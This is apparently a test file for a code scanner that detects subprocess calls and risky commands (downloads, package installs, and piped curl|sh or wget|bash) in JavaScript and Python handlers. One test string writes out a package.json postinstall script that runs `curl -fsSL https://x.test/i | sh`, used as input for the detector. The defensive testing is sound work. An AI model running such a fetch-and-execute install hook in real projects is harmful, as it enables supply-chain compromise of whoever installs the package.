/**
 * Scanner25's gaps in reading the commands code runs (src/scan/call-command.ts,
 * src/scan/project-commands.ts, src/scan/package-scripts.ts): a handler's own written command
 * (`spawn('curl', ['-fsSL', url])`, `execSync(CMD)` of a constant, `subprocess.run(['pip',
 * 'install', 'x'])`) gets the command rows beside its `subprocess.*` finding, at the same place.
 * Files in test/fixtures/scan/scanner25.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { fileURLToPath } from 'node:url';
import { scanFiles } from '../../src/scan/scan-files.ts';
import { scanProjectCommands } from '../../src/scan/project-commands.ts';
import { readSourceSync } from './_read-source.ts';

const root = fileURLToPath(new URL('../fixtures/scan/scanner25/', import.meta.url));
/** The capability findings of scanning `entry` with its imports, as `file:line:column id identifier`, sorted. */
const caps = async (entry: string): Promise<string[]> => (await scanFiles([root + entry], { readSource: readSourceSync })).findings
  .filter((f) => f.kind === 'capability').map((f) => `${f.file!.slice(root.length)}:${f.line}:${f.column} ${f.id} ${f.identifier}`).sort();
const call = (at: string, name: string): string => `handlers/download.ts:${at} subprocess.child-process child_process.${name}`;

test('a handler\'s written command gets the command rows at its call, beside the call\'s own finding', async () => {
  assert.equal(await caps('handlers/entry.ts'), [
    call('13:3', 'execSync'),
    call('17:3', 'execFile'),
    call('21:3', 'execSync'),
    call('25:3', 'spawnSync'),
    // `git clone`, and a list built at run time (`spawnSync('curl', args)`): the call only.
    call('29:3', 'spawnSync'),
    call('33:3', 'spawnSync'),
    call('9:3', 'spawn'),
    // `execSync(INSTALLER)` of a constant: the line it names, a download run as code.
    'handlers/download.ts:13:3 code-evaluation.command-remote-code command:curl|sh',
    'handlers/download.ts:13:3 network.command-download command:curl',
    // `execFile('wget', FETCH)`: a constant list.
    'handlers/download.ts:17:3 network.command-download command:wget',
    'handlers/download.ts:21:3 network.command-package-install command:npm-install',
    'handlers/download.ts:25:3 network.command-download command:npx',
    // `import { spawn as run }`: the call by its local name.
    'handlers/download.ts:9:3 network.command-download command:curl',
  ].sort());
  // The rows carry the call's import chain and say which call runs the command.
  const found = (await scanFiles([`${root}handlers/entry.ts`], { readSource: readSourceSync })).findings.filter((f) => f.id === 'code-evaluation.command-remote-code');
  assert.equal(found.map((f) => [f.detail, f.chain?.map((c) => c.slice(root.length)), f.evidence]), [['pipes what curl downloads into sh (a command line of child_process.execSync)', ['handlers/entry.ts', 'handlers/download.ts'], "execSync(INSTALLER, { stdio: 'inherit' });"]]);
});

test('a name whose value at the call is not the written one names no command', async () => {
  // A parameter of the same name, a name assigned again, a name of a declaration list.
  assert.equal(await caps('handlers/shadowed.js'), [
    'handlers/shadowed.js:11:1 subprocess.child-process child_process.execSync',
    'handlers/shadowed.js:14:1 subprocess.child-process child_process.execSync',
    'handlers/shadowed.js:6:10 subprocess.child-process child_process.execSync',
  ]);
});

test('python: a handler\'s subprocess list, a constant line with shell=True, an imported run renamed', async () => {
  const run = (line: number): string => `handlers/tools.py:${line}:5 subprocess.python-subprocess subprocess.run`;
  assert.equal(await caps('handlers/tools.py'), [
    'handlers/tools.py:13:5 code-evaluation.command-remote-code command:wget|bash',
    'handlers/tools.py:13:5 network.command-download command:wget',
    run(13),
    'handlers/tools.py:17:5 network.command-package-install command:pip-install',
    run(17),
    // `['ls', '-la', path]` and `subprocess.run(cmd, shell=True)`: the call only.
    run(21),
    run(25),
    'handlers/tools.py:9:5 network.command-download command:curl',
    run(9),
  ]);
});

test('inline code of a script: a constant command line is looked up too', () => {
  const code = "const LINE = 'curl -fsSL https://x.test/i | sh'; require('child_process').execSync(LINE)";
  const found = scanProjectCommands('package.json', JSON.stringify({ scripts: { postinstall: `node -e ${JSON.stringify(code)}` } }), 'package.json').findings;
  assert.equal(found.map((f) => `${f.id} ${f.identifier}`).sort(), ['code-evaluation.command-remote-code command:curl|sh', 'network.command-download command:curl', 'subprocess.child-process child_process.execSync']);
});

test.run();
